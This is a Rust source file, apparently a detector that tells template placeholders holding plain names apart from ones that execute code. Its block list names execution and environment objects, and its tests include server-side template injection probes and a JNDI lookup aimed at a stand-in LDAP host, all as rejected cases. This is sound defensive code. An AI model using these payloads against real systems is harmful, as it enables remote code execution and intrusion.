//! Places for data in documents: brackets that hold names, which a template looks up and shows, and
//! calls, computes or reaches into nothing: `${AWS::Region}`, `{{ $labels.instance }}`,
//! `${ .order.total > 100 }`.

/// What all brackets of a text hold.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Holds {
    /// Names, also with filters for their looks.
    Names,
    /// Names held against each other, numbers and quoted words as well.
    Conditions,
}

/// Longest bracket that is measured. Units: bytes.
const LONGEST: usize = 128;

/// Objects and functions by which a template reaches what is not its data. Engines heed case.
const REACHING: [&[u8]; 62] = [
    b"alert",
    b"app",
    b"application",
    b"applicationScope",
    b"beans",
    b"class",
    b"config",
    b"confirm",
    b"console",
    b"constructor",
    b"cookie",
    b"cycler",
    b"data_model",
    b"debug",
    b"document",
    b"dump",
    b"env",
    b"environment",
    b"eval",
    b"exec",
    b"facesContext",
    b"file",
    b"getClass",
    b"global",
    b"globalThis",
    b"globals",
    b"handler",
    b"header",
    b"headerValues",
    b"import",
    b"include",
    b"initParam",
    b"io",
    b"java",
    b"joiner",
    b"lipsum",
    b"mro",
    b"open",
    b"pageContext",
    b"param",
    b"paramValues",
    b"passthru",
    b"popen",
    b"process",
    b"prompt",
    b"prototype",
    b"rails",
    b"request",
    b"requestScope",
    b"require",
    b"runtime",
    b"self",
    b"servletContext",
    b"session",
    b"sessionScope",
    b"settings",
    b"shell_exec",
    b"system",
    b"systemEnvironment",
    b"systemProperties",
    b"this",
    b"window",
];

/// Filters that change how a value looks.
const FILTERS: [&[u8]; 20] = [
    b"b64enc",
    b"capitalize",
    b"date",
    b"default",
    b"escape",
    b"humanize",
    b"humanize1024",
    b"humanizeDuration",
    b"humanizePercentage",
    b"indent",
    b"lower",
    b"nindent",
    b"printf",
    b"quote",
    b"round",
    b"title",
    b"toJson",
    b"toYaml",
    b"trim",
    b"upper",
];

/// Words and signs by which conditions hold one thing against another.
const COMPARING: [&[u8]; 9] = [
    b"==", b"!=", b"<", b"<=", b">", b">=", b"and", b"or", b"not",
];

/// Tells what the brackets of a text hold; `None` where there are none, or one of them holds more.
/// Cost: linear.
pub fn held(text: &[u8]) -> Option<Holds> {
    let mut most = None;
    let mut at = 0;
    while let Some(open) = memchr::memchr(b'{', &text[at..]).map(|found| at + found) {
        let before = open.checked_sub(1).map_or(b' ', |before| text[before]);
        let (inside, close): (usize, &[u8]) = match (before, text.get(open + 1)) {
            // Other engines' brackets.
            (b'#' | b'*' | b'%' | b'~' | b'@', _) | (_, Some(b'%' | b'#')) => return None,
            (_, Some(b'{')) => (open + 2, b"}}"),
            (b'$', _) => (open + 1, b"}"),
            _ => {
                at = open + 1;
                continue;
            }
        };
        let length = memchr::memmem::find(&text[inside..], close)?;
        most = most.max(Some(read(&text[inside..inside + length])?));
        at = inside + length + close.len();
    }
    // Brackets of pages and scripts.
    let other = [&b"<%"[..], b"[[", b"<#", b"@("];
    most.filter(|_| {
        !other
            .iter()
            .any(|o| memchr::memmem::find(text, o).is_some())
    })
}

/// Measures the double bracket at the start that holds names and no more. `None` where there is none.
pub fn placeholder(text: &[u8]) -> Option<usize> {
    let inside = text.strip_prefix(b"{{")?;
    let length = memchr::memmem::find(&inside[..inside.len().min(LONGEST)], b"}}")?;
    (read(&inside[..length]) == Some(Holds::Names)).then_some(length + 4)
}

/// Tells what one bracket holds.
fn read(inside: &[u8]) -> Option<Holds> {
    let mut stages = inside.split(|b| *b == b'|');
    let first = stages.next().unwrap_or_default();
    stages.all(is_filter).then_some(())?;
    let mut words = Words(first).peekable();
    let (mut names, mut compared) = (0, false);
    while let Some(word) = words.next() {
        if COMPARING.contains(&word) {
            compared = true;
        } else if is_path(word) {
            names += 1;
        } else {
            let within = literal(word)?;
            names += within;
            compared |= within > 0;
        }
        // Two things beside each other are a call.
        let apart = |next: &&[u8]| COMPARING.contains(&word) || COMPARING.contains(next);
        if !words.peek().is_none_or(apart) {
            return None;
        }
    }
    match (names, compared) {
        (0, _) => None,
        (_, true) => Some(Holds::Conditions),
        (_, false) => Some(Holds::Names),
    }
}

/// A path of names: `AWS::Region`, `.Values.image`, `$labels.job`.
fn is_path(word: &[u8]) -> bool {
    let path = word.strip_prefix(b"$").unwrap_or(word);
    let path = path.strip_prefix(b".").unwrap_or(path);
    let path = path.strip_suffix(b"?").unwrap_or(path);
    let name = |name: &[u8]| {
        let fits = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-');
        let hidden = name.starts_with(b"__") && !name.iter().any(u8::is_ascii_uppercase);
        name.first()
            .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_')
            && name.iter().all(fits)
            && !hidden
            && !REACHING.contains(&name)
    };
    let two = memchr::memmem::find(path, b"::");
    let (scope, rest) = two.map_or((&b"x"[..], path), |at| (&path[..at], &path[at + 2..]));
    name(scope) && rest.split(|b| *b == b'.').all(name)
}

/// A number or a quoted word, and how many names it puts into itself: `"pets/\(.pet.id)"`. `None` for
/// anything else.
fn literal(word: &[u8]) -> Option<usize> {
    let number = |b: &u8| b.is_ascii_digit() || *b == b'.';
    if word.iter().all(number) {
        return Some(0);
    }
    let inside = match word {
        [b'"', inside @ .., b'"'] | [b'\'', inside @ .., b'\''] => inside,
        _ => return None,
    };
    let plain =
        |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b' ' | b'_' | b'-' | b'.' | b'/' | b':');
    let mut pieces = inside.split(|b| *b == b'\\');
    let mut names = 0;
    let first = pieces.next().unwrap_or_default().iter().all(plain);
    let rest = pieces.all(|piece| {
        names += 1;
        let close = memchr::memchr(b')', piece).unwrap_or(0);
        piece.starts_with(b"(")
            && is_path(&piece[1..close.max(1)])
            && piece[close + 1..].iter().all(plain)
    });
    (first && rest).then_some(names)
}

/// A filter, with numbers and formats that it takes: `printf "%.1f"`.
fn is_filter(stage: &[u8]) -> bool {
    let mut words = Words(stage);
    let known = words.next().is_some_and(|name| FILTERS.contains(&name));
    let format = |word: &[u8]| {
        matches!(word, [b'"', b'%', inside @ .., b'"']
            if inside.iter().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'%')))
    };
    known && words.all(|word| literal(word) == Some(0) || format(word))
}

/// Splits at blanks that stand in no quotes.
struct Words<'t>(&'t [u8]);

impl<'t> Iterator for Words<'t> {
    type Item = &'t [u8];

    fn next(&mut self) -> Option<&'t [u8]> {
        let text = self.0.trim_ascii_start();
        let end = match text.first()? {
            quote @ (b'"' | b'\'') => memchr::memchr(*quote, &text[1..]).map(|at| at + 2),
            _ => text.iter().position(u8::is_ascii_whitespace),
        };
        let (word, rest) = text.split_at(end.unwrap_or(text.len()));
        self.0 = rest;
        Some(word)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_are_told_from_what_runs() {
        for text in [
            "arn:aws:x:${AWS::Region}:${__ApiId__}/GET/",
            "${filename}.handler",
            "${Environment}-${Team}",
            "{{ .Chart.AppVersion }}",
            "Only {{ $value | printf \"%.1f\" }}% of {{ $labels.job }}",
            "${ .room.number }",
            "${{ github.ref }}",
            "a { b } ${c}",
        ] {
            assert_eq!(held(text.as_bytes()), Some(Holds::Names), "{text}");
        }
        for text in [
            "${ .bpm < 60 or .bpm > 100 }",
            "{{ .Kind == \"Pod\" }}",
            "${ \"hello-\\(.task.name)-\\(.id)\" }",
            "${a} ${b == 'x'}",
        ] {
            assert_eq!(held(text.as_bytes()), Some(Holds::Conditions), "{text}");
        }
        for text in [
            "no bracket",
            "{{7*7}}",
            "{{7}}",
            "{{ 7 == 7 }}",
            "${T(java.lang.Runtime)}",
            "{{constructor.constructor('return 1')()}}",
            "{{ ''.__class__ }}",
            "{{ x.__class__ }}",
            "{{config}}",
            "{{ a }}{{ self }}",
            "[].map.call`${eval}x`",
            "x ${system} y",
            "{{ a }} {% import os %}",
            "{{ x | id }}",
            "{{ x | attr('y') }}",
            "{{ print \"x\" }}",
            "{{ .Foo.Bar arg }}",
            "${a}#{b}",
            "${a}<%= b %>",
            "${a[b]}",
            "${a",
            "${{a}",
            "${ \"x\\(7*7)\" }",
            "${ \"x\\u0041\" }",
            "${env:HOME}",
            "${jndi:ldap://a.example/x}",
            "${${a}}",
        ] {
            assert_eq!(held(text.as_bytes()), None, "{text}");
        }
    }
}
